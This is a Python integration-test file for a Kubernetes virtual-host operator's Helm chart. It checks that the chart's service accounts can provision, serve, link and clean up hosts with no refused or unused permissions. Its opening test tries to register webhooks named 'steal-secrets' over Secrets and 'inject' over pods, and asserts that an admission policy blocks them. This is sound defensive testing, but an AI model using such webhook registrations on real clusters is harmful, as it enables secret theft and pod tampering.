        "other resources": webhook_configuration(WEBHOOK_CONFIGURATION, ["secrets"], ""),
        "a mutating webhook": webhook_configuration(
            WEBHOOK_CONFIGURATION, ["virtualhosts"], "vhost-operator.io", mutating
        ),
        "another mutating name": webhook_configuration("inject", ["pods"], "", mutating),
    }
    for what, manifest in attempts.items():
        path = tmp_path / "webhook.json"
        path.write_text(json.dumps(manifest))
        refused = kubectl_as(
            installed.cluster, installed.operator_kubeconfig, "create", "-f", str(path), check=False
        )
        assert refused.returncode != 0, what
        assert "ValidatingAdmissionPolicy" in refused.stderr and "denied" in refused.stderr, what
    for kind, name in (
        ("validatingwebhookconfiguration", "steal-secrets"),
        ("mutatingwebhookconfiguration", "inject"),
    ):
        assert get_object(installed.cluster, kind, name) is None


def start_processes(installed: Installed, workdir: Path) -> dict[str, str]:
    """The operator, the agent and the gate, each with its chart account and the chart's
    settings. Only what a pod gets from cluster DNS or a mounted volume is replaced by its local
    equivalent, and the processes' own ports are the harness's. Returns the operator's env."""
    nginx = installed.nginx
    operator_env = installed.deployment_env(FULLNAME, "operator")
    for key in ("LIVENESS_PORT", "METRICS_PORT"):
        operator_env.pop(f"VHOST_OPERATOR_{key}")
    responder_port = operator_env["VHOST_OPERATOR_CHALLENGE_LISTEN_PORT"]
    operator_env |= {
        "VHOST_OPERATOR_ACME_CA_BUNDLE": str(installed.pebble.ca_bundle_path),  # a ConfigMap
        "VHOST_OPERATOR_CHALLENGE_UPSTREAM": f"127.0.0.1:{responder_port}",  # the Service
        "VHOST_OPERATOR_NGINX_PROBE_ADDRESS": f"127.0.0.1:{nginx.https_port}",  # the Service
    }
    agent_env = installed.deployment_env(f"{FULLNAME}-nginx", "agent")
    for key in ("NGINX_BINARY", "NGINX_CONF", "NGINX_PID_FILE", "HEALTH_PORT"):
        agent_env.pop(f"VHOST_AGENT_{key}")
    gate_env = installed.deployment_env(f"{FULLNAME}-gate", "gate")
    gate_env.pop("VHOST_GATE_LISTEN_PORT")

    installed.agent = AgentProcess(installed.agent_kubeconfig, workdir, nginx, WEB_NS, agent_env)
    installed.agent.start()
    installed.gate = GateProcess(installed.gate_kubeconfig, workdir, gate_env).start()
    installed.operator = OperatorProcess(installed.operator_kubeconfig, workdir, operator_env)
    installed.operator.start()
    return operator_env


def maildomain(name: str, domain: str, hostname: str) -> Manifest:
    return {
        "apiVersion": "vhost-operator.io/v1alpha1",
        "kind": "MailDomain",
        "metadata": {"name": name},
        "spec": {"name": domain, "virtualHost": hostname},
    }


def linked_to(host: str) -> Any:
    def check(md: Manifest) -> bool:
        status = md.get("status") or {}
        return bool(status.get("linkedVirtualHost") == host)

    return check


def ready(obj: Manifest) -> bool:
    return phase_of(obj) == "Ready"


def settled(obj: Manifest) -> bool:
    return phase_of(obj) in ("Ready", "Failed")


REFUSAL_IN_LOGS = re.compile(r'HTTP/1\.1" 403 |status=403|[Ff]orbidden|[Nn]ot enough permissions')
"""A refused request in the processes' logs: urllib3's debug line, kopf's errors, our errors."""


@pytest.mark.cluster
def test_with_the_charts_accounts_hosts_are_provisioned_served_linked_and_removed(
    installed: Installed, tmp_path: Path
) -> None:
    cluster, nginx = installed.cluster, installed.nginx
    workdir = tmp_path / "processes"
    workdir.mkdir()
    operator_env = start_processes(installed, workdir)
    try:
        # kopf created and filled its webhook configurations: create, then patch by name.
        configuration = wait_for(
            cluster,
            "validatingwebhookconfiguration",
            WEBHOOK_CONFIGURATION,
            lambda o: bool(o.get("webhooks")),
            what="webhooks",
        )
        urls = {w["clientConfig"]["url"] for w in configuration["webhooks"]}
        port = operator_env["VHOST_OPERATOR_WEBHOOK_PORT"]
        assert all(url.startswith(f"https://127.0.0.1:{port}/") for url in urls), urls

        hostname = "chart.example.com"
        kube.apply_manifests(
            cluster, [kube.virtualhost("chart", hostname, domains=["example.com"])], tmp_path
        )
        host = wait_for(cluster, "vh", "chart", settled, timeout=90, what="Ready")
        assert phase_of(host) == "Ready", host.get("status")

        # Written where the chart allows it: the TLS Secret and site ConfigMap in the nginx
        # namespace, the ACME account (registered with EAB) in the operator's namespace.
        certificate = host["status"]["certificate"]
        tls = kube.secret_data(cluster, certificate["secretName"], WEB_NS)
        assert tls is not None and tls["tls.crt"].startswith(b"-----BEGIN CERTIFICATE-----")
        account = kube.secret_data(cluster, f"{FULLNAME}-acme-account", OPERATOR_NS)
        assert account is not None and account.get("account.key")

        # Served: nginx presents the issued certificate for the hostname (the agent's work).
        shown = served(nginx.https_port, hostname)
        assert shown is not None
        assert format(shown.serial_number, "x") == certificate["serial"]

        # The webhook answers through the API server: a duplicate hostname is refused.
        duplicate = tmp_path / "duplicate.json"
        duplicate.write_text(json.dumps(kube.virtualhost("chart-copy", hostname)))
        refused = cluster.kubectl("apply", "-f", str(duplicate), check=False)
        assert refused.returncode != 0 and "already used by VirtualHost chart" in refused.stderr

        # MailDomains: one joins the host, one creates a host of its own.
        kube.apply_manifests(
            cluster,
            [
                maildomain("chart-org", "example.org", hostname),
                maildomain("chart-net", "example.net", "new.example.net"),
            ],
            tmp_path,
        )
        wait_for(cluster, "md", "chart-org", linked_to("chart"), what="the link")
        created = wait_for(
            cluster,
            "md",
            "chart-net",
            lambda md: bool((md.get("status") or {}).get("linkedVirtualHost")),
            what="a created host",
        )
        new_host = created["status"]["linkedVirtualHost"]
        wait_for(cluster, "vh", new_host, settled, timeout=90, what="Ready")
        joined = wait_for(
            cluster,
            "vh",
            "chart",
            lambda o: "example.org" in o["spec"].get("domains", []),
            what="the joined domain",
        )
        assert sorted(joined["spec"]["domains"]) == ["example.com", "example.org"]

        # The gate follows VirtualHosts with its own account.
        client = installed.gate.client() if installed.gate else None
        assert client is not None
        deadline = time.monotonic() + 20
        while client.auth(hostname, "alice@example.org").status != 200:
            assert time.monotonic() < deadline, "the gate never learnt the joined domain"
            time.sleep(0.2)
        client.close()

        # Events went where the chart lets the operator create them.
        events = cluster.kubectl(
            "get",
            "events",
            "-n",
            installed_events_namespace(installed),
            "--field-selector",
            "involvedObject.name=chart",
            "-o",
            "json",
        )
        assert json.loads(events.stdout)["items"], "no Events for the VirtualHost"

        # Unlinking and deletion: the finalizers remove the domain, the ConfigMaps and Secrets.
        cluster.kubectl("delete", "md", "chart-org", "--wait=true", "--timeout=60s")
        wait_for(
            cluster,
            "vh",
            "chart",
            lambda o: o["spec"].get("domains", []) == ["example.com"],
            what="the unlinked domain",
        )
        cluster.kubectl("delete", "md,vh", "--all", "--wait=true", "--timeout=60s")
        left = cluster.kubectl(
            "get",
            "configmaps,secrets",
            "-n",
            WEB_NS,
            "-l",
            "app.kubernetes.io/managed-by=vhost-operator",
            "-o",
            "name",
        ).stdout
        assert left.strip() == ""
    except BaseException:
        print(installed.logs())
        raise
    finally:
        # Stopped now: an operator of another release must not see this one's objects.
        for _, process in installed.processes():
            process.stop()

    # Sufficient: not one request of the three accounts was refused.
    refusals = [line for line in installed.logs().splitlines() if REFUSAL_IN_LOGS.search(line)]
    assert refusals == [], "\n".join(refusals)
    if installed.audit is not None:
        check_audit(installed.manifests, installed.audit)


def installed_events_namespace(installed: Installed) -> str:
    role = one(installed.manifests, "Role", f"{FULLNAME}-events")
    namespace_name: str = role["metadata"]["namespace"]
    return namespace_name


def grants_by_account(manifests: list[Manifest]) -> dict[str, list[Grant]]:
    roles = {
        (m["kind"], m["metadata"].get("namespace"), m["metadata"]["name"]): m
        for m in manifests
        if m["kind"] in ("Role", "ClusterRole")
    }
    found: dict[str, list[Grant]] = {}
    for binding in manifests:
        if binding["kind"] not in ("RoleBinding", "ClusterRoleBinding"):
            continue
        ref = binding["roleRef"]
        namespace_name = binding["metadata"].get("namespace") if ref["kind"] == "Role" else None
        grants = grants_of(roles[(ref["kind"], namespace_name, ref["name"])])
        for subject in binding["subjects"]:
            user = f"system:serviceaccount:{subject['namespace']}:{subject['name']}"
            found.setdefault(user, []).extend(grants)
    return found


def check_audit(manifests: list[Manifest], audit: AuditedControlPlane) -> None:
    """The API server's record of the run: nothing refused, and every grant used."""
    accounts = grants_by_account(manifests)
    # The processes' own requests; kubectl's (the refusal tests above) are the test's.
    requests = [
        r for r in audit.requests() if r.user in accounts and not r.user_agent.startswith("kubectl")
    ]
    refused = [r for r in requests if r.code == 403]
    assert refused == [], refused
    unused = [
        str(grant)
        for user, grants in accounts.items()
        for grant in grants
        if not any(r.user == user and grant.covers(r) for r in requests)
        and str(grant) not in GRANTS_THE_RUN_CANNOT_SHOW
    ]
    assert unused == [], f"granted but never needed in a whole run: {unused}"


@pytest.mark.cluster
def test_with_default_values_the_operator_needs_no_more(
    target: tuple[Cluster, AuditedControlPlane | None], helm: Helm, tmp_path: Path
) -> None:
    """The default install (ACME, nginx and the gate off) grants less, and that is enough: a
    host is Ready at once, a MailDomain creates and joins hosts, deletion cleans up (deleting
    a host always removes its nginx objects, which may be left from earlier settings)."""
    cluster, audit = target
    kube.apply_manifests(cluster, [namespace(DEFAULTS_NS)], tmp_path)
    release_helm = Helm(helm.binary, cluster.kubeconfig)
    configuration = "chart-defaults.vhost-operator.io"
    values = {
        # Only what the local API server needs to reach the webhook, and a name of its own.
        "webhook": {"host": "127.0.0.1", "port": free_port(), "configurationName": configuration},
    }
    release_helm.run(
        "install",
        DEFAULTS_RELEASE,
        str(CHART),
        "--namespace",
        DEFAULTS_NS,
        "--values",
        str(release_helm.values_file(values)),
    )
    manifests = parse_manifests(
        release_helm.run("get", "manifest", DEFAULTS_RELEASE, "--namespace", DEFAULTS_NS).stdout
    )
    fullname = f"{DEFAULTS_RELEASE}-vhost-operator"
    account = service_account_kubeconfig(
        cluster, DEFAULTS_NS, fullname, tmp_path / "defaults.kubeconfig"
    )
    env = literal_env(container(one(manifests, "Deployment", fullname), "operator"))
    for key in ("LIVENESS_PORT", "METRICS_PORT"):
        env.pop(f"VHOST_OPERATOR_{key}")
    operator = OperatorProcess(account, tmp_path, env)
    try:
        operator.start()
        kube.apply_manifests(
            cluster,
            [
                kube.virtualhost("plain", "plain.example.com"),
                maildomain("plain-org", "plain.example.org", "other.example.org"),
            ],
            tmp_path,
        )
        wait_for(cluster, "vh", "plain", ready, what="Ready")
        linked = wait_for(
            cluster,
            "md",
            "plain-org",
            lambda md: bool((md.get("status") or {}).get("linkedVirtualHost")),
            what="a created host",
        )
        wait_for(cluster, "vh", linked["status"]["linkedVirtualHost"], ready, what="Ready")
        # What "plain" may have left from a time nginx and ACME were on: deleted with it.
        leftovers = [
            {
                "apiVersion": "v1",
                "kind": kind,
                "metadata": {
                    "name": name,
                    "namespace": DEFAULTS_NGINX_NS,
                    "annotations": {"vhost-operator.io/virtualhost": "plain"},
                },
            }
            for kind, name in (
                ("ConfigMap", site_configmap_name("plain")),
                ("Secret", tls_secret_name("plain")),
            )
        ]
        kube.apply_manifests(cluster, leftovers, tmp_path)
        cluster.kubectl("delete", "md,vh", "--all", "--wait=true", "--timeout=60s")
        left = cluster.kubectl("get", "configmaps,secrets", "-n", DEFAULTS_NGINX_NS, "-o", "name")
        assert "plain" not in left.stdout, left.stdout
    except BaseException:
        print(operator.log())
        raise
    finally:
        operator.stop()
        if audit is None:
            release_helm.run("uninstall", DEFAULTS_RELEASE, "--namespace", DEFAULTS_NS, check=False)
            for kind in ("validatingwebhookconfiguration", "mutatingwebhookconfiguration"):
                cluster.kubectl(
                    "delete",
                    kind,
                    configuration,
                    "--ignore-not-found",
                    check=False,
                )
            for name in (DEFAULTS_NS, DEFAULTS_NGINX_NS):  # the chart keeps nginx's
                cluster.kubectl("delete", "namespace", name, "--wait=false", check=False)
    refusals = [line for line in operator.log().splitlines() if REFUSAL_IN_LOGS.search(line)]
    assert refusals == [], "\n".join(refusals)
    if audit is not None:
        check_audit(manifests, audit)
